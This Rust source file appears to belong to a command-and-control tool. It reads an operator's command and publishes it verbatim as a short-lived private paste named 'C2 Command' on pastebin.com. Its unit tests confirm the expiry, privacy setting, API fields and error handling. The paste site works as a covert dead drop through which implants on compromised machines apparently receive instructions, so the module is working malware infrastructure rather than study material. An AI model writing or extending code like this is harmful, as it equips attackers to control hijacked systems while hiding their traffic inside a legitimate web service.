use crate::config::{Expiry, PublisherConfig};
use crate::error::{PasteboxError, Result};
use crate::store::{Created, Paste, TextStore};
use std::io::BufRead;
use tracing::info;

/// Read one line of operator input, without its line terminator.
pub fn read_command(reader: &mut impl BufRead) -> Result<String> {
    let mut line = String::new();
    reader.read_line(&mut line)?;
    if line.ends_with('\n') {
        line.pop();
        if line.ends_with('\r') {
            line.pop();
        }
    }
    Ok(line)
}

/// Posts a new command to the store. Single-shot: no retries.
pub struct Publisher<S> {
    store: S,
    name: String,
    expiry: Expiry,
}

impl<S: TextStore> Publisher<S> {
    pub fn new(store: S, config: &PublisherConfig) -> Self {
        Self {
            store,
            name: config.name.clone(),
            expiry: config.expiry,
        }
    }

    /// Create a new command slot holding `command` exactly as given.
    pub fn publish(&self, command: &str) -> Result<Created> {
        if command.is_empty() {
            return Err(PasteboxError::EmptyCommand);
        }
        let paste = Paste {
            text: command.to_string(),
            name: self.name.clone(),
            expiry: self.expiry,
        };
        let created = self.store.create(&paste)?;
        info!(slot = %created.slot, "new command paste created: {}", created.url);
        Ok(created)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::StoreConfig;
    use crate::error::StoreError;
    use crate::slot::SlotId;
    use crate::store::HttpStore;
    use mockito::Matcher;
    use std::cell::RefCell;
    use std::io::Cursor;

    #[derive(Default)]
    struct RecordingStore {
        created: RefCell<Vec<Paste>>,
    }

    impl TextStore for RecordingStore {
        fn read(&self, _slot: &SlotId) -> std::result::Result<String, StoreError> {
            unreachable!("publisher never reads")
        }

        fn create(&self, paste: &Paste) -> std::result::Result<Created, StoreError> {
            self.created.borrow_mut().push(paste.clone());
            Ok(Created {
                slot: SlotId::from("new1"),
                url: "https://paste.test/new1".into(),
            })
        }
    }

    #[test]
    fn payload_is_operator_input_verbatim() {
        for input in ["run", "idle", "  spaced  "] {
            let store = RecordingStore::default();
            let publisher = Publisher::new(&store, &PublisherConfig::default());

            let created = publisher.publish(input).unwrap();

            assert_eq!(created.slot.as_str(), "new1");
            let pastes = store.created.borrow();
            assert_eq!(pastes.len(), 1);
            assert_eq!(pastes[0].text, input);
            assert_eq!(pastes[0].name, "C2 Command");
            assert_eq!(pastes[0].expiry, Expiry::TenMinutes);
        }
    }

    #[test]
    fn empty_command_is_rejected_before_any_write() {
        let store = RecordingStore::default();
        let publisher = Publisher::new(&store, &PublisherConfig::default());
        assert!(matches!(
            publisher.publish(""),
            Err(PasteboxError::EmptyCommand)
        ));
        assert!(store.created.borrow().is_empty());
    }

    #[test]
    fn read_command_strips_only_the_line_terminator() {
        let mut input = Cursor::new("run\nsecond line\n");
        assert_eq!(read_command(&mut input).unwrap(), "run");

        let mut input = Cursor::new(" idle \r\n");
        assert_eq!(read_command(&mut input).unwrap(), " idle ");

        let mut input = Cursor::new("no newline");
        assert_eq!(read_command(&mut input).unwrap(), "no newline");

        let mut input = Cursor::new("");
        assert_eq!(read_command(&mut input).unwrap(), "");
    }

    #[test]
    fn publishes_over_http_and_returns_slot() {
        let mut server = mockito::Server::new();
        let m = server
            .mock("POST", "/api/api_post.php")
            .match_body(Matcher::AllOf(vec![
                Matcher::UrlEncoded("api_paste_code".into(), "idle".into()),
                Matcher::UrlEncoded("api_paste_name".into(), "C2 Command".into()),
                Matcher::UrlEncoded("api_paste_expire_date".into(), "10M".into()),
                Matcher::UrlEncoded("api_paste_private".into(), "1".into()),
            ]))
            .with_status(200)
            .with_body("https://pastebin.com/Cmd42")
            .expect(1)
            .create();

        let store = HttpStore::new(&StoreConfig {
            api_url: format!("{}/api/api_post.php", server.url()),
            dev_key: "k".into(),
            ..StoreConfig::default()
        })
        .unwrap();
        let created = Publisher::new(store, &PublisherConfig::default())
            .publish("idle")
            .unwrap();

        assert_eq!(created.slot.as_str(), "Cmd42");
        m.assert();
    }

    #[test]
    fn store_failure_is_returned() {
        let mut server = mockito::Server::new();
        let _m = server
            .mock("POST", "/api/api_post.php")
            .with_status(200)
            .with_body("Bad API request, maximum number of 25 unlisted pastes")
            .create();

        let store = HttpStore::new(&StoreConfig {
            api_url: format!("{}/api/api_post.php", server.url()),
            ..StoreConfig::default()
        })
        .unwrap();
        let err = Publisher::new(store, &PublisherConfig::default())
            .publish("run")
            .unwrap_err();
        assert!(matches!(err, PasteboxError::Store(StoreError::Rejected(_))));
    }
}
